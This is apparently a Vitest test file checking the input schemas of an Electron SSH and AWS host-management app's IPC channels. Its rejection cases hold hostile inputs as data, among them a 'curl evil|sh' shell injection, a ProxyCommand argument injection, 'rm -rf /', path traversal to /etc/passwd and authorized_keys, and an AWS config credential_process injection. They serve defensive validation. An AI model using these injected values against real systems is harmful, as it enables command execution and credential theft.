import { describe, expect, it } from 'vitest';
import { notifications, requests, type NotifyArgs, type NotifyChannel, type RequestArgs, type RequestChannel } from '../../../electron/contract';

const host = { kind: 'ssh', name: 'web 1', host: 'web1.example.com', port: 22, user: 'ubuntu', auth: { type: 'agent' } } as const;

/** One valid example per channel; the type makes a new channel without an example a compile error. */
const valid: { [C in RequestChannel]: RequestArgs<C> } = {
  'app.info': {},
  'settings.get': {},
  'settings.set': { language: 'ja' },
  'prompt.answer': { promptId: 'p12', value: true },
  'op.cancel': { requestId: 'open-1' },
  'hosts.list': {},
  'hosts.save': { host: { ...host, auth: { type: 'keyFile', path: '~/.ssh/id_ed25519' } } },
  'hosts.delete': { id: 'h0123abcd' },
  'hosts.move': { hostIds: ['h1', 'h2'], groupId: 'g1' },
  'hosts.markUsed': { id: 'h1' },
  'groups.save': { group: { name: 'prod', parentId: null, settings: { region: 'eu-west-1', osUser: 'ec2-user' } } },
  'groups.delete': { id: 'g1' },
  'smartGroups.save': { group: { name: 'prod web', query: 'tag:env=prod state:running' } },
  'smartGroups.delete': { id: 'sg1' },
  'hosts.importSshConfig': {},
  'hosts.export': { hostIds: ['h1'] },
  'hosts.import': { json: '{"version":2}' },
  'hosts.restoreBackup': {},
  'session.open': { requestId: 'open-1', hostId: 'h1', cols: 80, rows: 24 },
  'session.write': { sessionId: 's1', data: 'ls -la\r' },
  'session.resize': { sessionId: 's1', cols: 100, rows: 30 },
  'session.stats': { sessionId: 's1' },
  'session.close': { sessionId: 's1' },
  'recording.start': { sessionId: 's1', title: 'deploy' },
  'recording.stop': { sessionId: 's1' },
  'recording.list': {},
  'recording.read': { name: 'deploy-20250101-120000-s1.cast' },
  'recording.chooseFolder': {},
  'link.open': { url: 'https://example.com/docs' },
  'aws.profiles.list': {},
  'aws.profiles.check': { requestId: 'check-1', profile: 'dev' },
  'aws.sso.login': { requestId: 'sso-1', profile: 'dev-sso' },
  'aws.sso.discover': { requestId: 'sso-2', session: 'corp', startUrl: 'https://corp.awsapps.com/start', ssoRegion: 'eu-west-1' },
  'aws.sso.createProfile': {
    profile: 'dev-admin',
    session: 'corp',
    startUrl: 'https://corp.awsapps.com/start',
    ssoRegion: 'eu-west-1',
    accountId: '123456789012',
    roleName: 'AdministratorAccess',
    region: 'eu-west-1',
  },
  'inventory.get': {},
  'inventory.refresh': { requestId: 'inv-1', profiles: ['dev', 'prod'], regions: ['eu-west-1', 'us-east-1'] },
  'forward.open': { requestId: 'fwd-1', kind: 'eice', localPort: 0, remotePort: 22, hostId: 'h1' },
  'forward.list': {},
  'endpoint.propose': { hostId: 'h1' },
  'endpoint.wait': { requestId: 'eice-2', endpointId: 'eice-0123456789abcdef0', hostId: 'h1' },
  'endpoint.create': { requestId: 'eice-1', subnetId: 'subnet-0123456789abcdef0', securityGroupIds: ['sg-0123456789abcdef0'], hostId: 'h1' },
  'forward.close': { forwardId: 'f1' },
  'policy.generate': { hostIds: ['h1', 'h2'], subnetId: 'subnet-0123456789abcdef0', securityGroupIds: ['sg-0123456789abcdef0'], features: ['inventory', 'audit'] },
  'audit.trail': { requestId: 'trail-1', profile: 'prod', region: 'eu-west-1', startTime: Date.now() - 3600_000 },
  'audit.alarmSetup': { profile: 'prod', region: 'eu-west-1', topicArn: 'arn:aws:sns:eu-west-1:123456789012:security-alerts', threshold: 3 },
  'audit.local': { limit: 100 },
  'audit.search': { requestId: 'search-1', profiles: ['prod', 'staging'], regions: ['eu-west-1', 'us-east-1'], hostId: 'h1', user: 'arn:aws:iam::123456789012:user/alice', osUser: 'root' },
  'files.open': { requestId: 'files-1', hostId: 'h1' },
  'files.close': { browserId: 'b1' },
  'files.list': { browserId: 'b1', requestId: 'ls-1', path: 'L2hvbWUvZWMyLXVzZXI=' },
  'files.stat': { browserId: 'b1', path: 'L2V0Yy9ob3N0cw==' },
  'files.mkdir': { browserId: 'b1', dir: 'L3RtcA==', name: 'new folder' },
  'files.rename': { browserId: 'b1', path: 'L3RtcC9h', name: 'b.txt' },
  'files.delete': { browserId: 'b1', requestId: 'rm-1', paths: ['L3RtcC9h'] },
  'files.chmod': { browserId: 'b1', path: 'L3RtcC9h', mode: 0o640 },
  'files.download': { hostId: 'h1', paths: ['L3Zhci9sb2cvbWVzc2FnZXM='], conflict: 'ask' },
  'files.upload': { hostId: 'h1', dir: 'L3RtcA==', picks: ['l1'], sudo: false },
  'files.uploadStream': { target: { region: 'eu-west-1', instanceId: 'i-0123456789abcdef0' }, dir: 'L3RtcA==', files: [{ name: 'site/index.html', size: 1200, executable: false }] },
  'files.push': { transferId: 'x1', file: 0, offset: 0, data: 'aGVsbG8=' },
  'files.copy': { hostId: 'h1', paths: ['L2V0Yy9uZ2lueA=='], to: { hostId: 'h2', dir: 'L2V0Yw==' }, conflict: 'keepBoth' },
  'files.pick': { folders: true },
  'files.downloads': { choose: false },
  'files.transfers': {},
  'files.cancel': { transferId: 'x1' },
  'files.retry': { transferId: 'x1' },
  'files.answer': { transferId: 'x1', choice: 'replace', applyToAll: true },
  'files.clear': {},
  'fleet.resolve': { targets: { smartGroupId: 's1' } },
  'fleet.run': { targets: { hostIds: ['h1', 'h2'] }, command: 'uptime', sudo: false, timeoutS: 30, concurrency: 20 },
  'fleet.rerun': { runId: 'r1' },
  'fleet.cancel': { runId: 'r1' },
  'fleet.runs': {},
  'fleet.get': { runId: 'r1' },
  'fleet.output': { runId: 'r1', key: 'i:us-east-1:i-0a1b2c3d4e5f00001' },
  'fleet.export': { runId: 'r1', format: 'csv' },
  'doctor.run': { hostId: 'h1' },
  'doctor.applyFix': { hostId: 'h1', change: { direction: 'ingress', groupId: 'sg-0123456789abcdef0', port: 22, peer: { groupId: 'sg-0fedcba9876543210' } } },
  'bridge.sshCommand': { hostId: 'h1' },
  'bridge.setup.status': {},
  'bridge.setup.install': {},
  'bridge.setup.undo': {},
  'fleetUpload.start': { targets: { groupId: 'g1' }, localPath: '/home/me/app.conf', remoteDir: '/etc/app' },
  'fleetUpload.get': { uploadId: 'u1' },
  'fleetUpload.cancel': { uploadId: 'u1' },
};

/** One valid example per notification channel (one-way messages, no result). */
const validNotify: { [N in NotifyChannel]: NotifyArgs<N> } = {
  'session.ack': { sessionId: 's1', bytes: 4096 },
};

/** A value of another JSON type than the one given. */
function wrongType(v: unknown): unknown {
  if (typeof v === 'string') return 42;
  if (typeof v === 'number') return String(v);
  if (typeof v === 'boolean') return 1;
  if (v === null) return 7;
  if (Array.isArray(v)) return 'list';
  return 'object';
}

const channels = Object.keys(requests) as RequestChannel[];

describe('the contract schemas', () => {
  it('has an example for every request channel', () => {
    expect(Object.keys(valid).sort()).toEqual([...channels].sort());
  });

  it.each(channels)('%s accepts a valid call', (ch) => {
    const r = requests[ch].args.safeParse(valid[ch]);
    expect(r.success, JSON.stringify(r.error?.issues)).toBe(true);
  });

  it.each(channels)('%s refuses non-objects, extra keys and each field of the wrong type', (ch) => {
    const args = requests[ch].args;
    for (const bad of [null, undefined, 'x', 1, [], [valid[ch]]]) expect(args.safeParse(bad).success).toBe(false);
    expect(args.safeParse({ ...valid[ch], extra: 1 }).success).toBe(false);
    for (const [k, v] of Object.entries(valid[ch])) {
      expect(args.safeParse({ ...valid[ch], [k]: wrongType(v) }).success, `${ch}.${k}`).toBe(false);
    }
  });

  it('refuses values a person could not have meant', () => {
    const bad: Array<[RequestChannel, unknown]> = [
      ['session.open', { requestId: 'a b', hostId: 'h1', cols: 80, rows: 24 }],
      ['session.open', { requestId: 'r', hostId: '../etc', cols: 80, rows: 24 }],
      // A saved host or an instance: exactly one.
      ['session.open', { requestId: 'r', cols: 80, rows: 24 }],
      ['session.open', { requestId: 'r', hostId: 'h1', target: { region: 'eu-west-1', instanceId: 'i-0123456789abcdef0' }, cols: 80, rows: 24 }],
      ['session.open', { requestId: 'r', target: { region: 'eu-west-1', instanceId: 'i-0123456789abcdef0; id' }, cols: 80, rows: 24 }],
      ['session.resize', { sessionId: 's1', cols: 1.5, rows: 30 }],
      // A run names its hosts one way, and its command is text without NUL.
      ['fleet.run', { targets: { hostIds: ['h1'], groupId: 'g1' }, command: 'uptime' }],
      ['fleet.run', { targets: {}, command: 'uptime' }],
      ['fleet.run', { targets: { groupId: 'g1' }, command: 'echo\0x' }],
      ['fleet.run', { targets: { groupId: 'g1' }, command: '   ' }],
      ['fleet.run', { targets: { groupId: 'g1' }, command: 'uptime', concurrency: 0 }],
      ['fleet.output', { runId: 'r1', key: 'i:us-east-1:../../etc' }],
      // Files to many hosts: an absolute local path, no control characters in either path.
      ['fleetUpload.start', { targets: { groupId: 'g1' }, localPath: 'app.conf', remoteDir: '/etc' }],
      ['fleetUpload.start', { targets: { groupId: 'g1' }, localPath: '/tmp/a\nb', remoteDir: '/etc' }],
      ['fleetUpload.start', { targets: { groupId: 'g1' }, localPath: '/tmp/a', remoteDir: '/etc\u001b[2J' }],
      ['fleetUpload.get', { uploadId: 'r1' }],
      ['session.resize', { sessionId: 's1', cols: 100000, rows: 30 }],
      ['session.write', { sessionId: 's1', data: 'x'.repeat(256 * 1024 + 1) }],
      ['hosts.save', { host: { ...host, host: 'a b -oProxyCommand=sh' } }],
      ['hosts.save', { host: { ...host, user: '-oProxyCommand' } }],
      ['hosts.save', { host: { ...host, port: 70000 } }],
      ['hosts.save', { host: { ...host, name: 'n'.repeat(10_000) } }],
      ['hosts.save', { host: { ...host, auth: { type: 'password', password: 'x' } } }],
      ['recording.read', { name: '../../etc/passwd.cast' }],
      ['recording.read', { name: '.hidden.cast' }],
      ['link.open', { url: 'file:///etc/passwd' }],
      // A doctor fix opens port 22 to one address or one group, never a range or another port.
      ['doctor.applyFix', { hostId: 'h1', change: { direction: 'ingress', groupId: 'sg-0123456789abcdef0', port: 22, peer: { cidr: '0.0.0.0/0' } } }],
      ['doctor.applyFix', { hostId: 'h1', change: { direction: 'ingress', groupId: 'sg-0123456789abcdef0', port: 22, peer: { cidr: '::/0' } } }],
      ['doctor.applyFix', { hostId: 'h1', change: { direction: 'ingress', groupId: 'sg-0123456789abcdef0', port: 22, peer: { cidr: '10.0.0.0/8' } } }],
      ['doctor.applyFix', { hostId: 'h1', change: { direction: 'ingress', groupId: 'sg-0123456789abcdef0', port: 3389, peer: { cidr: '203.0.113.5/32' } } }],
      ['link.open', { url: 'javascript:alert(1)' }],
      ['link.open', { url: 'https://user:pw@example.com/' }],
      ['prompt.answer', { promptId: 'p1', value: 'x'.repeat(5000) }],
      ['policy.generate', {}],
      ['policy.generate', { hostIds: ['h1'], subnetId: 'subnet-x; rm -rf /' }],
      ['policy.generate', { hostIds: ['h1'], features: ['connect'] }],
      ['policy.generate', { hostIds: ['h1'], features: ['iam:*'] }],
      // The URL parser would drop the newline; the AWS config would not.
      ['aws.sso.createProfile', { ...valid['aws.sso.createProfile'], startUrl: 'https://x.awsapps.com/start\n[profile pwn]\ncredential_process = id' }],
      ['audit.trail', { requestId: 't', profile: 'p', region: 'eu-west-1', startTime: 2000, endTime: 1000 }],
      // Both reach a shell command line: nothing but a bucket name, nothing but a topic ARN.
      ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', trailBucket: "logs'; curl evil|sh; '" }],
      ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', topicArn: 'arn:aws:sns:eu-west-1:123456789012:x $(id)' }],
      ['audit.alarmSetup', { profile: 'p', region: 'eu-west-1', threshold: 0 }],
      // A person's ARN with a control character or a space, a regex for an OS user, a region list too long, both a host and an instance.
      ['audit.search', { requestId: 's', profiles: ['p'], regions: ['eu-west-1'], user: 'arn:aws:iam::123456789012:user/a\u001b[2J' }],
      ['audit.search', { requestId: 's', profiles: ['p'], regions: ['eu-west-1'], user: 'alice smith' }],
      ['audit.search', { requestId: 's', profiles: ['p'], regions: ['eu-west-1'], osUser: '.*' }],
      ['audit.search', { requestId: 's', profiles: [], regions: ['eu-west-1'] }],
      ['audit.search', { requestId: 's', profiles: ['p'], regions: Array.from({ length: 33 }, (_, i) => `eu-west-${i}`) }],
      ['audit.search', { requestId: 's', profiles: ['p'], regions: ['eu-west-1'], hostId: 'h1', instanceId: 'i-0123456789abcdef0' }],
      // Remote names travel as base64 bytes, nothing else.
      ['files.list', { browserId: 'b1', requestId: 'l', path: '/etc/passwd' }],
      ['files.list', { browserId: 'b1', requestId: 'l' }],
      // A name typed by the person is one name: no slash, no . or .., no NUL.
      ['files.rename', { browserId: 'b1', path: 'L3RtcC9h', name: '../../etc/passwd' }],
      ['files.mkdir', { browserId: 'b1', dir: 'L3RtcA==', name: '..' }],
      ['files.mkdir', { browserId: 'b1', dir: 'L3RtcA==', name: 'a\u0000b' }],
      // A streamed upload's files stay inside the folder they go to.
      ['files.uploadStream', { hostId: 'h1', dir: 'L3RtcA==', files: [{ name: '../.ssh/authorized_keys', size: 1 }] }],
      ['files.uploadStream', { hostId: 'h1', dir: 'L3RtcA==', files: [{ name: '/etc/passwd', size: 1 }] }],
      ['files.push', { transferId: 'x1', file: 0, offset: 0, data: 'x'.repeat(700_001) }],
    ];
    for (const [ch, args] of bad) expect(requests[ch].args.safeParse(args).success, `${ch} ${JSON.stringify(args).slice(0, 80)}`).toBe(false);
  });

  const notifyChannels = Object.keys(notifications) as NotifyChannel[];

  it('has an example for every notification channel, and no name is both a request and a notification', () => {
    expect(Object.keys(validNotify).sort()).toEqual([...notifyChannels].sort());
    for (const n of notifyChannels) expect(Object.hasOwn(requests, n), n).toBe(false);
  });

  it.each(notifyChannels)('notification %s accepts its example and refuses non-objects, extra keys and wrong types', (n) => {
    const schema = notifications[n];
    expect(schema.safeParse(validNotify[n]).success).toBe(true);
    for (const bad of [null, undefined, 'x', 1, [], [validNotify[n]]]) expect(schema.safeParse(bad).success).toBe(false);
    expect(schema.safeParse({ ...validNotify[n], extra: 1 }).success).toBe(false);
    for (const [k, v] of Object.entries(validNotify[n])) expect(schema.safeParse({ ...validNotify[n], [k]: wrongType(v) }).success, `${n}.${k}`).toBe(false);
  });

  it('refuses acknowledgements a renderer could not have meant', () => {
    for (const bad of [
      { sessionId: 's1', chars: -1 },
      { sessionId: 's1', chars: 1.5 },
      { sessionId: 's1', chars: 2 ** 31 },
      { sessionId: '../s1', chars: 1 },
    ]) {
      expect(notifications['session.ack'].safeParse(bad).success, JSON.stringify(bad)).toBe(false);
    }
  });
});
